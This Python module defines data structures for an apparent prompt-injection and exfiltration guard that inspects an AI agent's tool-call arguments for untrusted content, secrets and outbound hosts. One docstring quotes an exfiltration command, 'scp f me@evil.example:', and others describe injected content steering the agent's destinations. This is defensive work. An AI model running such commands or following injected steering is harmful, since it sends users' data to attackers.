"""What one argument of a call carries once it is looked up in the index (:class:`ArgumentMatch`),
and what the call is, so that only useful lookups are made (:class:`CallShape`)."""

from __future__ import annotations

from collections.abc import Collection, Mapping
from dataclasses import dataclass, field

from .hits import Hit
from .regex import GlobSet
from .secretscan import SecretFinding, SecretScanner
from .types import ArgPath

__all__ = ["ArgumentMatch", "CallShape"]


@dataclass(frozen=True)
class CallShape:
    """What the call whose arguments are matched is, so that only useful lookups are made."""

    destinations: frozenset[ArgPath] = frozenset()
    """Arguments that say where data goes."""
    opaque: frozenset[ArgPath] = frozenset()
    """Arguments under opaque-id keys: they carry no sensitive content."""
    unsteered: frozenset[ArgPath] = frozenset()
    """Of a privileged call, arguments no untrusted content chose: plain numbers under quantity
    keys (an amount), which say how much it moves, not whom or what it acts on, and values
    under a rule's condition keys (a filter's ``criteria``), which say what it applies to."""
    egress: bool = False
    """Sensitive content matters (whole words, values, prose), not only fragments."""
    privileged: bool = False
    """Whole values matter as identifiers from untrusted content."""
    scan: SecretScanner | None = None
    """The secret rules to run, if any."""
    hosts: Mapping[ArgPath, Collection[str]] = field(default_factory=dict)
    """Per argument, the hosts it points at (a URL's, a command line's): where the call goes."""
    recipients: frozenset[str] = frozenset()
    """The e-mail addresses the call's destination arguments name."""
    home_hosts: GlobSet | None = None
    """The hosts the call's own service serves from (its roles' ``hosts``), if it names any."""
    steered: bool = False
    """Untrusted content addressed the agent earlier in the session: a destination is also
    looked up by its steering values (a phone number, however it is written)."""
    located: Mapping[ArgPath, Collection[tuple[int, int]]] = field(default_factory=dict)
    """Per argument, spans of its value that say which records the call changes (a WHERE
    clause): they carry no data out."""


@dataclass
class ArgumentMatch:
    """What one argument carries: pieces of untrusted content, of sensitive content, secrets."""

    path: ArgPath
    destination: bool
    untrusted_hits: list[Hit] = field(default_factory=list)
    sensitive_hits: list[Hit] = field(default_factory=list)
    secrets: list[SecretFinding] = field(default_factory=list)
    addressed_by: set[int] = field(default_factory=set)
    """For a destination: the untrusted results that name its address (not its payload)."""
    hosts_named_by: set[int] = field(default_factory=set)
    """Of an egress call: the untrusted results that name a host the argument sends to (the
    host or a parent domain), wherever it sits (``scp f me@evil.example:`` in a command)."""
    payloads: list[str] = field(default_factory=list)
    """Of an egress call: the matchable forms of what the argument carries as data."""
    outbound_hits: list[Hit] = field(default_factory=list)
    """Of an egress call's payload: sensitive hits inside the URLs it carries to hosts outside
    the allowlist. They reach that host wherever the message is written (a comment's image is
    fetched when it is shown), so being written back where they were read does not excuse them."""

    @property
    def hits(self) -> list[Hit]:
        return self.untrusted_hits + self.sensitive_hits

    @property
    def untrusted_calls(self) -> set[int]:
        return {h.call for h in self.untrusted_hits}
